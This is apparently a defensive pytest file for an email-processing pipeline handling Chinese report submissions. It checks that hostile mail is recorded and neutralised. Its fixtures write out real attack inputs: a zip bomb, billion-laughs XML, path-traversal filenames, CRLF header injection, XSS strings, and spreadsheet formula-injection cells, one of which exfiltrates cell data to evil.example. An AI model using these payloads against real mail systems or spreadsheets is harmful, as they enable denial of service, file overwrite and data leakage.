"""Hostile and broken input through the whole pipeline (one poll over a local Maildir, replies written
as .eml files): every mail ends with a recorded status and reason, within bounded time and memory,
and the cycle carries on. What we echo back is neutralised: no header injection, no live HTML, no
spreadsheet formulas."""
from __future__ import annotations

import csv
import io
import json
import os
import sys
import time
import zipfile
from email import message_from_bytes, policy
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
import yaml
from mailbuild import b_word, file_part, mail, multipart, rfc822_part, text_part
from officebuild import replace_part, summary_docx
from officebuild_ole import build_ole, word_fib
from officebuild_zip import Entry, build_zip, zeros_deflated

from run import main
from samples import generate

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lololololololololololol">'
          + b"".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
                     for i in range(1, 10))
          + b"]>\n")


@pytest.fixture(scope="module")
def sample():
    return generate(seed=41)


def laughs(xml: bytes, root_tag: bytes) -> bytes:
    """Put a billion-laughs DTD in front of an OOXML part and the top entity inside its root."""
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    end = body.index(b">", body.index(root_tag)) + 1
    return LAUGHS + body[:end] + b"<!-- &lol9; -->" + body[end:]


def formula_workbook() -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("活动明细")
    sheet.write_row(0, 0, ["序号", "活动名称", "活动时间", "活动地点", "活动形式", "参与人数"])
    rows = [["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "2025年9月10日", "=1+1", "线下", 100],
            ["+cmd|' /C calc'!A0 科普讲座", "2025年9月11日", "@SUM(1)", "线下", 200],
            ["-2+3 科技馆开放日", "2025年9月12日", "科技馆", "线上", 300],
            ["@关注 科普大篷车进校园", "2025年9月13日", "-学校", "线下", 400]]
    for r, row in enumerate(rows, start=1):
        sheet.write_number(r, 0, r)
        for c, value in enumerate(row, start=1):
            (sheet.write_number if isinstance(value, int) else sheet.write_string)(r, c, value)
    book.close()
    return out.getvalue()


def macro_docm() -> bytes:
    """A .docm: a Word document carrying a VBA project (never run: we only read XML)."""
    return _add_member(summary_docx(), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"Sub AutoOpen()" * 50)


def _add_member(data: bytes, name: str, payload: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as z:
        z.writestr(name, payload)
    return out.getvalue()


def nested_mime(depth: int) -> bytes:
    inner = text_part("最里面")
    for _ in range(depth):
        inner = multipart("mixed", [inner])
    return inner


def nested_rfc822(depth: int) -> bytes:
    inner = mail(text_part("原始邮件"), subject="inner", message_id="<inner@x>")
    for i in range(depth):
        inner = mail(multipart("mixed", [text_part("转发"), rfc822_part(inner)]), subject=f"Fw{i}",
                     message_id=f"<fw{i}@x>")
    return multipart("mixed", [text_part("见附件"), rfc822_part(inner)])


def hostile_mails(sender: str, unit_name: str) -> dict[str, bytes]:
    docx = summary_docx()
    book = formula_workbook()
    bomb_stream, crc, size = zeros_deflated(2048)  # 2 GiB of zeros in ~2 MB
    bomb = build_zip([Entry("活动总结.docx", precompressed=(bomb_stream, crc, size))])
    encrypted_ooxml = build_ole([("EncryptionInfo", b"\x04\x00\x04\x00" + bytes(200)),
                                 ("EncryptedPackage", bytes(4096))])
    cases = {
        "zip_bomb": [file_part(bomb, "application/zip", 'attachment; filename="材料.zip"'.encode())],
        "laughs_docx": [file_part(replace_part(docx, "word/document.xml", lambda x: laughs(x, b"<w:document")),
                                  DOCX, 'attachment; filename="laughs.docx"')],
        "laughs_xlsx": [file_part(replace_part(book, "xl/worksheets/sheet1.xml", lambda x: laughs(x, b"<worksheet")),
                                  XLSX, 'attachment; filename="laughs.xlsx"')],
        "encrypted_docx": [file_part(encrypted_ooxml, DOCX, 'attachment; filename="总结（加密）.docx"'.encode())],
        "encrypted_doc": [file_part(build_ole([("WordDocument", word_fib(encrypted=True)), ("1Table", b"")]), "application/msword", 'attachment; filename="总结.doc"'.encode())],
        "macro_docm": [file_part(macro_docm(), "application/vnd.ms-word.document.macroEnabled.12",
                                 'attachment; filename="总结.docm"'.encode())],
        "evil_names": [file_part(docx, DOCX, 'attachment; filename="../../../../tmp/evil-pwn.docx"'),
                       file_part(book, XLSX, 'attachment; filename="/etc/cron.d/evil.xlsx"'),
                       file_part(docx, DOCX, "attachment; filename*=utf-8''a%00b%0D%0ABcc%3A%20x%40evil.example.docx")],
        "formulas": [file_part(book, XLSX, 'attachment; filename="=cmd|calc!A0.xlsx"')],
        "html_subject": [file_part(book, XLSX, 'attachment; filename="<img src=x onerror=alert(1)>.xlsx"')],
    }
    raws = {}
    for i, (name, parts) in enumerate(cases.items()):
        subject = f"{unit_name}科普月总结 {name}"
        if name == "html_subject":
            subject = b_word(f"{unit_name}<script>alert('x')</script>总结")
        raws[name] = mail(multipart("mixed", [text_part(f"{unit_name}报送，见附件。"), *parts]),
                          subject=b_word(subject) if isinstance(subject, str) and not subject.startswith("=?")
                          else subject, from_=sender, message_id=f"<hostile-{i}@example.cn>")
    raws["crlf_subject"] = mail(multipart("mixed", [text_part("见附件"), file_part(book, XLSX, 'attachment; filename="a.xlsx"')]),
                                subject=b_word(f"{unit_name}总结\r\nBcc: victim@evil.example\r\nX-Evil: 1"),
                                from_=sender, message_id="<hostile-crlf@example.cn>")
    raws["nested_mime"] = mail(nested_mime(300), subject=b_word(f"{unit_name}总结"), from_=sender,
                               message_id="<hostile-nested@example.cn>")
    raws["nested_rfc822"] = mail(nested_rfc822(60), subject=b_word(f"{unit_name}总结"), from_=sender,
                                 message_id="<hostile-rfc822@example.cn>")
    raws["undeclared_charset"] = (b"From: " + sender.encode() + b"\r\nTo: tskxpjb@126.com\r\nSubject: "
                                  + f"{unit_name}科普月总结".encode("gbk") + b"\r\nMessage-ID: <hostile-8bit@example.cn>\r\n"
                                  b"Date: Mon, 15 Sep 2025 10:00:00 +0800\r\nMIME-Version: 1.0\r\n"
                                  b"Content-Type: text/plain; charset=\"utf-8\"\r\n\r\n" + "活动总结见后".encode("gbk"))
    raws["unknown_charset"] = mail(text_part("正文", charset="x-no-such-charset", codec="utf-8"),
                                   subject=b"=?x-unknown?B?5rWL6K+V?=", from_=sender,
                                   message_id="<hostile-charset@example.cn>")
    return raws


def test_hostile_mail_ends_recorded_and_the_cycle_carries_on(tmp_path, sample):
    unit = next(u for u in sample.units if u.emails)
    sender = unit.emails[0]
    raws = hostile_mails(sender, unit.name)
    inbox = tmp_path / "inbox"
    for sub in ("new", "cur", "tmp"):
        (inbox / sub).mkdir(parents=True)
    for n, raw in enumerate(raws.values()):
        (inbox / "new" / f"{n:03d}.hostile").write_bytes(raw)
    (tmp_path / "units.csv").write_text(sample.units_csv(), encoding="utf-8")
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump({"mailbox": {"maildir": "inbox"},
                                      "smtp": {"outdir": "sent", "from": sample.mailbox_addr,
                                               "max_per_recipient_per_day": 100},
                                      "admins": list(sample.admin_addrs), "data_dir": "var",
                                      "campaign": {"units": "units.csv"},
                                      "extraction": {"workers": 2, "timeout_seconds": 60, "mem_limit_mb": 1024}},
                                     allow_unicode=True), encoding="utf-8")
    began = time.monotonic()
    assert main(["--config", str(config), "poll"]) == 0
    elapsed = time.monotonic() - began
    out = tmp_path / "out.json"
    assert main(["--config", str(config), "export", "--format", "json", "--out", str(out)]) == 0
    data = json.loads(out.read_text(encoding="utf-8"))
    by_id = {m["message_id"]: m for m in data["messages"]}
    assert len(by_id) == len(raws)  # every one recorded, once
    for m in data["messages"]:
        assert m["status"] in ("accepted", "superseded", "needs_review", "ignored") and m["reason"], m
    assert not list(Path("/tmp").glob("evil-pwn*")) and not Path("/etc/cron.d/evil.xlsx").exists()

    def files(i):
        return by_id[f"<hostile-{i}@example.cn>"]["files"]

    names = list(raws)
    bomb = files(names.index("zip_bomb"))
    assert any(f["status"] in ("failed", "skipped") and f["error"] for f in bomb) or not bomb, bomb
    for case in ("encrypted_docx", "encrypted_doc"):
        assert any("密码" in (f["error"] or "") for f in files(names.index(case))), (case, files(names.index(case)))
    for case in ("laughs_docx", "laughs_xlsx"):  # read without expanding, or refused: either way recorded
        assert files(names.index(case)), case
    evil = files(names.index("evil_names"))
    assert len(evil) == 3 and all("\x00" not in f["name"] and "\r" not in f["name"] and "\n" not in f["name"]
                                  for f in evil), evil

    # replies: no injected header, no live HTML, 设有密码 where a file is encrypted
    sent = [message_from_bytes(p.read_bytes(), policy=policy.default) for p in sorted((tmp_path / "var").parent.glob("sent/*.eml"))]
    assert sent
    for reply in sent:
        assert reply["Bcc"] is None and reply["X-Evil"] is None
        assert all("\n" not in str(v) for _, v in reply.items())
        html = reply.get_body(("html",))
        if html is not None:
            content = html.get_content()
            assert "<script>" not in content and "<img src=x" not in content
    replies = {r["In-Reply-To"]: r for r in sent}
    enc = replies.get(f"<hostile-{names.index('encrypted_docx')}@example.cn>")
    assert enc is not None and "设有密码" in enc.get_body(("plain",)).get_content()
    html_reply = replies.get(f"<hostile-{names.index('html_subject')}@example.cn>")
    assert html_reply is not None and "&lt;script&gt;" in html_reply.get_body(("html",)).get_content()

    # formula injection: neutralised in CSV and XLSX exports
    assert main(["--config", str(config), "export", "--format", "csv", "--out", str(tmp_path / "x.csv")]) == 0
    assert main(["--config", str(config), "export", "--format", "xlsx", "--out", str(tmp_path / "x.xlsx")]) == 0
    cells = [c for p in tmp_path.glob("x*.csv") for row in csv.reader(p.open(encoding="utf-8-sig")) for c in row]
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    xcells = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("HYPERLINK" in c for c in cells) and any("HYPERLINK" in c for c in xcells)  # the text is kept
    for c in cells + xcells:
        assert c[:1] not in ("=", "+", "-", "@"), c
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    print(f"\nhostile: {len(raws)} mails in {elapsed:.1f} s, statuses "
          f"{sorted((k, by_id[m]['status']) for k, m in zip(names, [f'<hostile-{i}@example.cn>' for i in range(len(names))]) if m in by_id)}")


SAMPLER = r"""
import os, resource, sys, threading, time
from pathlib import Path
peak = {"child": 0}
def sample():
    me = os.getpid()
    while True:
        for stat in Path("/proc").glob("[0-9]*/stat"):
            try:
                fields = stat.read_text().rsplit(")", 1)[1].split()
                if int(fields[2]) == me and int(stat.parent.name) != me:
                    rss = int(fields[21]) * os.sysconf("SC_PAGE_SIZE") // 1024
                    peak["child"] = max(peak["child"], rss)
            except (OSError, ValueError, IndexError):
                pass
        time.sleep(0.02)
threading.Thread(target=sample, daemon=True).start()
import run
code = run.main(["--config", sys.argv[1], "poll"])
print("RSS", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, peak["child"], code)
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="peak RSS from /proc and getrusage")
def test_a_50_mb_attachment_is_bounded(tmp_path, sample):
    """Peak memory of the parent and of the parser workers, for a mail with a 50 MB attachment."""
    import subprocess

    unit = next(u for u in sample.units if u.emails)
    big = os.urandom(50 << 20)
    raw = mail(multipart("mixed", [text_part("见附件"), file_part(big, "application/octet-stream",
                                                                 'attachment; filename="video.mp4"')]),
               subject=b_word(f"{unit.name}总结"), from_=unit.emails[0], message_id="<big@example.cn>")
    inbox = tmp_path / "inbox"
    for sub in ("new", "cur", "tmp"):
        (inbox / sub).mkdir(parents=True)
    (inbox / "new" / "big.eml").write_bytes(raw)
    del big
    (tmp_path / "units.csv").write_text(sample.units_csv(), encoding="utf-8")
    (tmp_path / "config.yaml").write_text(yaml.safe_dump(
        {"mailbox": {"maildir": "inbox"}, "smtp": {"outdir": "sent", "from": sample.mailbox_addr},
         "admins": list(sample.admin_addrs), "data_dir": "var", "campaign": {"units": "units.csv"},
         "extraction": {"workers": 1}}, allow_unicode=True), encoding="utf-8")
    script = SAMPLER
    root = Path(__file__).resolve().parent.parent
    done = subprocess.run([sys.executable, "-c", script, str(tmp_path / "config.yaml")], cwd=root, capture_output=True,
                          text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(root)}, start_new_session=True)
    line = next(x for x in done.stdout.splitlines() if x.startswith("RSS"))
    _, parent_kb, child_kb, code = line.split()
    assert code == "0"
    parent_mb, child_mb = int(parent_kb) / 1024, int(child_kb) / 1024
    print(f"\n50 MB attachment ({len(raw) / 2**20:.0f} MB message): peak RSS parent {parent_mb:.0f} MB, "
          f"largest worker {child_mb:.0f} MB")
    # generous bounds (not a benchmark): a few copies of the message, never unbounded growth
    assert parent_mb < 1024 and child_mb < 1536
